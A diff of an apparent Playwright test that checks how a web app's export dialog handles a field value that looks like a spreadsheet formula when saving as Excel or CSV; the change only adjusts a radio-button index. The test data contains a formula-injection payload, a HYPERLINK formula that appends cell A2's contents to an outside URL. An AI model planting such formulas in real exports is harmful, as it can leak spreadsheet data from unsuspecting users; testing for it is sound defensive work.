@@ -76,7 +76,7 @@ test('a formula is a text in Excel, and is named before it is written as CSV', a
   await paste(page, JSON.stringify({ BusinessName: '=HYPERLINK("https://example.com/?"&A2,"É")', BusinessContactPhone: '+15155550134' }));
   await page.getByRole('button', { name: 'Save', exact: true }).click();
   const dialog = page.getByRole('dialog');
-  await expect(dialog.getByRole('radio').nth(2)).toHaveAccessibleName('Sheet (Excel)');
+  await expect(dialog.getByRole('radio').nth(1)).toHaveAccessibleName('Sheet (Excel)');
   await dialog.getByLabel('Sheet (Excel)').check();
   await expect(dialog).not.toContainText('begins like a formula');
   await dialog.getByLabel('Sheet (CSV)').check();
